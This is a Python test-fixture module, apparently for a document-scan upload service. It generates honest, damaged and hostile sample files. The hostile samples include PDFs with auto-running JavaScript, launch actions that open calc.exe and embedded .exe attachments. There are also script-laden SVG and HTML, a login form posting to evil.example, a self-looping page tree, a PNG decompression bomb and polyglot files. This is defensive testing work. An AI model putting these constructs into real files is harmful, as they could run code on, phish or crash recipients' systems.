"""Files that people, telephones and attackers hand in as a scan. Every function returns bytes."""

import io
import struct
import zipfile
import zlib

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

NIK = b"3374012345678901"


def _written(writer):
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _page(count=1):
    writer = PdfWriter()
    for _ in range(count):
        writer.add_blank_page(width=595, height=842)
    return writer


def _named(**entries):
    return DictionaryObject({NameObject(f"/{name}"): value for name, value in entries.items()})


def _script():
    return _named(S=NameObject("/JavaScript"), JS=TextStringObject("app.alert(1)"))


def _launch():
    return _named(S=NameObject("/Launch"), F=TextStringObject("calc.exe"))


# --- honest files -------------------------------------------------------------------------------------------------
def pdf(pages=1):
    return _written(_page(pages))


def picture(kind="JPEG", size=(60, 40), mode="RGB", **options):
    out = io.BytesIO()
    Image.new(mode, size, "red" if mode == "RGB" else 128).save(out, kind, **options)
    return out.getvalue()


def photo_from_a_telephone(size=(80, 40)):
    """JPEG, lying on its side (orientation 6), with the place where it was taken and the telephone's name."""
    image = Image.new("RGB", size, "white")
    for x in range(size[0] // 2):
        for y in range(size[1]):
            image.putpixel((x, y), (200, 0, 0))  # the left half; upright it is the top
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x010F] = "TELEPON-DESA"
    exif.get_ifd(0x8825).update({1: "S", 2: (7.0, 20.0, 30.0), 3: "E", 4: (110.0, 29.0, 0.0)})
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif, comment=b"RUMAH-PAK-LURAH")
    return out.getvalue()


# --- not what they say they are -------------------------------------------------------------------------------------
def program():
    return b"MZ\x90\x00" + b"\x00" * 60 + b"This program cannot be run in DOS mode." + b"\x00" * 200


def svg():
    body = b"<script>alert(1)</script></svg>"
    return b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + body


def html_page():
    return b"<!doctype html><title>Masuk</title><form action=//evil.example><script>alert(1)</script>"


def archive():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        file.writestr("surat.pdf", pdf())
    return out.getvalue()


def heic():
    return struct.pack(">I", 24) + b"ftypheic" + b"\x00" * 4 + b"mif1heic" + b"\x00" * 400


def gif():
    return picture("GIF", mode="P")


def eps():
    return b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(%PDF-) run\n"


# --- damaged --------------------------------------------------------------------------------------------------------
def cut_pdf():
    whole = pdf(3)
    return whole[: len(whole) // 2]


def pdf_of_noise():
    return b"%PDF-1.7\n" + bytes(range(256)) * 20


def pdf_without_pages():
    return _written(PdfWriter())


def cut_jpeg():
    whole = picture(size=(900, 900), quality=95)
    return whole[: len(whole) * 6 // 10]


def broken_png():
    whole = bytearray(picture("PNG", size=(300, 300)))
    whole[60:200] = b"\xff" * 140
    return bytes(whole)


def png_of_text():
    return b"\x89PNG\r\n\x1a\n" + html_page()


# --- locked or alive ------------------------------------------------------------------------------------------------
def locked_pdf():
    writer = _page()
    writer.encrypt("rahasia", algorithm="RC4-128")
    return _written(writer)


def pdf_with_script():
    """In the catalogue's tree of names, where scripts that run on opening stand."""
    writer = _page()
    tree = _named(Names=ArrayObject([TextStringObject("a"), writer._add_object(_script())]))
    writer.root_object[NameObject("/Names")] = _named(JavaScript=writer._add_object(tree))
    return _written(writer)


def pdf_with_script_on_opening():
    writer = _page()
    writer.root_object[NameObject("/OpenAction")] = writer._add_object(_script())
    return _written(writer)


def pdf_with_script_on_page():
    writer = _page()
    writer.pages[0][NameObject("/AA")] = writer._add_object(_named(O=_script()))
    return _written(writer)


def pdf_with_script_after_closing():
    """The document's additional actions, one reference deeper than the catalogue."""
    writer = _page()
    writer.root_object[NameObject("/AA")] = writer._add_object(_named(WC=writer._add_object(_script())))
    return _written(writer)


def pdf_with_chained_script():
    """An innocent first action that goes on to a script."""
    writer = _page()
    first = _named(S=NameObject("/Named"), N=NameObject("/FirstPage"), Next=writer._add_object(_script()))
    writer.root_object[NameObject("/OpenAction")] = writer._add_object(first)
    return _written(writer)


def _annotated(action=None, **entries):
    writer = _page()
    box = ArrayObject([NumberObject(n) for n in (0, 0, 595, 842)])
    note = _named(Type=NameObject("/Annot"), Subtype=NameObject("/Link"), Rect=box, **entries)
    if action is not None:
        note[NameObject("/A")] = writer._add_object(action)
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(note)])
    return _written(writer)


def pdf_with_launching_link():
    return _annotated(_launch())


def pdf_with_scripted_link():
    return _annotated(_script())


def pdf_launching_on_opening():
    writer = _page()
    writer.root_object[NameObject("/OpenAction")] = writer._add_object(_launch())
    return _written(writer)


def pdf_with_attachment():
    writer = _page()
    writer.add_attachment("gaji.exe", program())
    return _written(writer)


def pdf_with_attached_note():
    """A file pinned to the page as a note, not listed in the catalogue."""
    writer = _page()
    file = writer._add_object(_named(Type=NameObject("/Filespec"), F=TextStringObject("gaji.exe"), EF=_named()))
    box = ArrayObject([NumberObject(n) for n in (0, 0, 20, 20)])
    note = _named(Type=NameObject("/Annot"), Subtype=NameObject("/FileAttachment"), Rect=box, FS=file)
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(note)])
    return _written(writer)


# --- too much -------------------------------------------------------------------------------------------------------
def long_pdf(pages=5000):
    """Many pages in a small file: every page is the same object."""
    kids = b" ".join([b"3 0 R"] * pages)
    parts = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Count %d /Kids [%s] >>" % (pages, kids),
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
    ]
    return _assembled(parts)


def looping_pdf():
    """A page tree that contains itself."""
    return _assembled([
        b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Count 2 /Kids [2 0 R 3 0 R] >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
    ])  # fmt: skip


def _assembled(parts):
    out, places = bytearray(b"%PDF-1.4\n"), []
    for number, part in enumerate(parts, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, part)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(parts) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(parts) + 1, start)
    return bytes(out)


def png_bomb(width=20_000, height=20_000):
    """A few hundred kilobytes that unfold into 400 megapixels (one bit each)."""

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    row = b"\x00" + b"\x00" * (width // 8)
    squeezer = zlib.compressobj(9)
    data = b"".join(squeezer.compress(row * 100) for _ in range(height // 100)) + squeezer.flush()
    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def heavy(size=6 * 1024 * 1024):
    return pdf() + b"\n%" + b"0" * size


# --- two things at once ---------------------------------------------------------------------------------------------
def picture_and_page():
    """A true PNG that is also a web page, with an identity number behind its end."""
    return picture("PNG") + html_page() + NIK


def jpeg_and_archive():
    return picture() + archive()
